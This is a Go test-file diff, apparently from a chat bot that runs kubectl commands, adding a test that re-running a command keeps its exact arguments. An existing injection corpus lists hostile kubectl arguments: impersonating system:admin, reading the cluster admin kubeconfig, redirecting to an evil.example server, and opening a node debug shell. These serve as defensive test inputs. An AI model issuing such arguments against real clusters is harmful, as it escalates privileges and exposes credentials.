@@ -79,8 +79,8 @@ type counting struct {
 	confirm []string
 }
 
-func (c *counting) Analyze(args []string) (executor.Action, error) {
-	a, err := c.Executor.(executor.Analyzer).Analyze(args)
+func (c *counting) Analyze(ctx context.Context, args []string) (executor.Analysis, error) {
+	a, err := c.Executor.Analyze(ctx, args)
 	a.Confirm = slices.Contains(c.confirm, a.Verb)
 	return a, err
 }
@@ -389,3 +389,17 @@ var injectionCorpus = slices.Clone([]string{
 	"kubectl get pods --as system:admin", "kubectl get pods --kubeconfig /etc/kubernetes/admin.conf",
 	"kubectl get pods --server https://evil.example", "kubectl --token x get pods", "kubectl debug node/x -it --image busybox",
 })
+
+// TestRunAgainKeepsArgv: "Run again" runs exactly the argv of the command,
+// even an argument holding both kinds of quote, which no re-quoting of the
+// command's text could give back.
+func TestRunAgainKeepsArgv(t *testing.T) {
+	f := newFixture(t)
+	m := f.say(t, "readonly", "U1", `kubectl get pods -o go-template='{{printf "%s" "it"}}'"'s"`)
+	require.Contains(t, m.PlainText(), "it's", m.PlainText())
+	id := m.Sections[len(m.Sections)-1].Buttons[0].ActionID
+	again := f.r.Handle(t.Context(), chat.Inbound{Platform: "chat", Channel: chat.Channel{Name: "readonly", ID: "readonly"}, UserID: "U2",
+		ActionID: id, Thread: chat.MessageRef{ID: "T1"}})
+	require.Equal(t, m.Title, again.Title)
+	require.Contains(t, again.PlainText(), "it's", again.PlainText())
+}
